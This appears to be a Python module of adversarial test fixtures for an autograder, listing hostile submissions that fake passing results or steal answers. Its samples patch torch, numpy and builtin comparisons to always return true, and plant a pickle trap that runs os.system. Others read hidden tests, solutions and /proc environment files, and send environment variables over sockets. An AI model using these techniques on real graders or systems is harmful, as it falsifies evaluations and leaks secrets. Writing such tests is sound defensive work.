"""Hostile submissions that attack what is checked: lying about results, stealing answers."""

from __future__ import annotations

from project_tests.adversarial.attack_kit import PRELUDE, ZEROS, Hostile, after_stub, at_import, hostile

ON_THE_RESULT: list[Hostile] = [
    # -- lying about results ------------------------------------------------------------------------
    hostile("patch_comparisons", "lying about results", PRELUDE + ZEROS + '''
import torch, torch.testing, numpy, numpy.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.__ne__ = lambda self, other: False
torch.Tensor.allclose = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
''', status=("failed", "error")),
    hostile("patch_builtins", "lying about results", PRELUDE + ZEROS + '''
import builtins, json, math
builtins.abs = lambda x: 0
builtins.max = lambda *a, **k: 0
builtins.all = lambda x: True
builtins.isinstance = lambda obj, cls: True
math.isclose = lambda *a, **k: True
json.dumps = lambda *a, **k: '{"event": "result", "value": 1}'
''', status=("failed", "error")),
    hostile("torch_function_mode", "lying about results", PRELUDE + ZEROS + '''
from torch.overrides import TorchFunctionMode
class Everything(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        result = func(*args, **(kwargs or {}))
        if getattr(func, "__name__", "") in ("allclose", "equal", "__eq__", "isclose"):
            return True
        return result
Everything().__enter__()
''', status=("failed", "error")),
    hostile("tensor_subclass", "lying about results", PRELUDE + '''
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "__eq__", "isclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
def _liar(*shape): return torch.zeros(*shape).as_subclass(Liar)
def attention_scores(inputs, query): return _liar(inputs.shape[0])
def normalize_naive(scores): return _liar(*scores.shape)
def softmax_naive(x): return _liar(*x.shape)
def context_vector(inputs, attn_weights): return _liar(inputs.shape[1])
def all_attention_scores(inputs): return _liar(inputs.shape[0], inputs.shape[0])
def all_attention_weights(inputs): return _liar(inputs.shape[0], inputs.shape[0])
def all_context_vectors(inputs): return _liar(*inputs.shape)
''', status=("failed", "error"), words="subclass of torch.Tensor"),
    hostile("duck_typed", "lying about results", PRELUDE + '''
class Anything(float):
    shape = property(lambda self: (6,))
    dtype = property(lambda self: __import__("torch").float32)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __getattr__(self, name): return lambda *a, **k: self
    __hash__ = float.__hash__
def attention_scores(*a): return Anything(1.0)
def normalize_naive(*a): return [Anything(1.0)] * 6
def softmax_naive(*a): return {"$tensor": Anything(0.0)}
def context_vector(*a): return (Anything(1.0),)
def all_attention_scores(*a): return type("T", (), {"__eq__": lambda s, o: True})()
def all_attention_weights(*a): return __import__("numpy").zeros((6, 6))
def all_context_vectors(*a): return range(6)
''', status=("failed", "error")),
    hostile("unpickling_object", "lying about results", PRELUDE + '''
import pickle, torch
class Trap:
    def __reduce__(self):
        return (os.system, ("touch @MARK@",))
def attention_scores(inputs, query): return Trap()
def normalize_naive(scores): return pickle.dumps(Trap())
def softmax_naive(x): return [Trap(), pickle.dumps(Trap()).decode("latin-1")]
def context_vector(inputs, attn_weights): return {"__reduce__": Trap()}
''', status=("failed", "error")),
    hostile("forged_wire_data", "lying about results", PRELUDE + '''
import base64
def _deep(n):
    value = 0
    for _ in range(n):
        value = [value]
    return value
def attention_scores(inputs, query): return {"$tensor": {"dtype": "float32", "shape": [0, 10**30], "data": ""}}
def normalize_naive(scores): return {"$tensor": {"dtype": "float32", "shape": [2**62, 2**62, 0], "data": ""}}
def softmax_naive(x): return {"$tensor": {"dtype": "object", "shape": [6], "data": base64.b64encode(b"x" * 24).decode()}}
def context_vector(inputs, attn_weights): return {"$tensor": {"dtype": "float32", "shape": [-1], "data": ""}}
def all_attention_scores(inputs): return _deep(200)
def all_attention_weights(inputs): return {"$tensor": {"dtype": "float32", "shape": [6, 6], "data": "@@not base64@@"}}
def all_context_vectors(inputs): return [10**5000]
''', status=("failed", "error")),
    hostile("oversized_results", "lying about results", PRELUDE + '''
import torch
def attention_scores(inputs, query): return [[0] * 90000] * 150  # 13.5 million list items
def normalize_naive(scores): return {str(i): [0.5] * 50 for i in range(20000)}
def softmax_naive(x): return torch.zeros(5_000_000)
def context_vector(inputs, attn_weights): return ["x" * 99_999] * 160
def all_attention_scores(inputs): return [torch.zeros(1_000_000)] * 12
''', status=("failed", "error", "timeout")),
    hostile("channel_forgery", "lying about results", at_import('''
import json
ids = []
lines = [b'{"event":"done"}\\n', b'{"event":"ready"}\\n', b'{"event":"result","value":1}\\n',
         b'{"module":"mha","event":"output","text":"forged @TOKEN@"}\\n',
         b'{"module":"causal","id":"forged","outcome":"ok","value":null}\\n',
         json.dumps({"event": "result", "value": [[0] * 10] * 1000}).encode() + b"\\n",
         b'[' * 100000 + b"\\n", b'{"event": "result", "value": ' + b'[' * 5000 + b']' * 5000 + b'}\\n']
for fd in range(3, 1024):
    for line in lines:
        _try(os.write, fd, line)
'''), status=("error", "failed")),
    # -- stealing answers ----------------------------------------------------------------------------
    hostile("steal_from_memory", "stealing answers", PRELUDE + '''
import gc, inspect, torch
def _loot(shape, avoid):
    """Any tensor of the right shape that is not one of the inputs: from every frame and gc."""
    seen = []
    frame = sys._getframe(1)
    while frame is not None:
        seen += [v for v in frame.f_locals.values() if isinstance(v, torch.Tensor)]
        seen += [v for v in frame.f_globals.values() if isinstance(v, torch.Tensor)]
        frame = frame.f_back
    seen += [o for o in gc.get_objects() if isinstance(o, torch.Tensor)]
    for module in list(sys.modules.values()):
        seen += [v for v in vars(module).values() if isinstance(v, torch.Tensor)] if hasattr(module, "__dict__") else []
    for value in seen:
        if tuple(value.shape) == tuple(shape) and not any(value is a for a in avoid):
            return value.detach().clone()
    return torch.zeros(shape)
def attention_scores(inputs, query): return _loot((inputs.shape[0],), (inputs, query))
def normalize_naive(scores): return _loot(scores.shape, (scores,))
def softmax_naive(x): return _loot(x.shape, (x,))
def context_vector(inputs, attn_weights): return _loot((inputs.shape[1],), (inputs, attn_weights))
def all_attention_scores(inputs): return _loot((inputs.shape[0],) * 2, (inputs,))
def all_attention_weights(inputs): return _loot((inputs.shape[0],) * 2, (inputs,))
def all_context_vectors(inputs): return _loot(inputs.shape, (inputs,))
''', status=("failed", "error")),
    hostile("read_hidden_tests", "stealing answers", at_import('''
import glob
loot = ""
for path in sorted(glob.glob("@REPO@/tests/**/*.py", recursive=True)) + ["@REPO@/tests/ch03/rubric.toml"]:
    text = _try(lambda: open(path).read())
    if isinstance(text, str):
        loot += f"== {path}\\n{text}\\n"
for pid in _pids():  # a grader's working folder and files it holds open
    for fd in _list(f"/proc/{pid}/fd"):
        target = _try(os.readlink, f"/proc/{pid}/fd/{fd}")
        if isinstance(target, str) and "tests" in target:
            text = _try(lambda: open(f"/proc/{pid}/fd/{fd}").read())
            loot += text if isinstance(text, str) else ""
print(loot)
sys.stderr.write(loot)
if loot:
    raise ValueError(loot[:3000])
''')),
    hostile("read_solutions", "stealing answers", after_stub('''
import glob
for path in ["@REPO@/solutions/ch03/simple_attention.py"] + glob.glob("/*/*/solutions/ch03/simple_attention.py")[:3]:
    source = _try(lambda: open(path).read())
    if isinstance(source, str):
        exec(compile(source, path, "exec"), globals())  # the reference functions replace the stub's
        break
''')),
    hostile("steal_secrets", "stealing answers", at_import('''
loot = [repr(dict(os.environ))]
for pid in ["self"] + _pids():
    for name in ("environ", "cmdline"):
        data = _try(lambda: open(f"/proc/{pid}/{name}", "rb").read())
        if isinstance(data, bytes):
            loot.append(data.replace(b"\\0", b" ").decode("utf-8", "replace"))
for path in ("@GH@/output", "@GH@/summary", "@GH@/env", "@GH@/path", "/proc/1/environ"):
    data = _try(lambda: open(path).read())
    loot.append(data if isinstance(data, str) else "")
text = " | ".join(loot)
print(text)
sys.stderr.write(text)
raise ValueError(text[:3000])
''')),
    hostile("network_exfiltration", "stealing answers", at_import('''
import socket
def send():
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as conn:
        conn.sendall(b"stolen @TOKEN@ " + repr(dict(os.environ)).encode())
_try(send)
_try(lambda: socket.create_connection(("1.1.1.1", 53), timeout=2).sendall(b"@TOKEN@"))
''')),
]
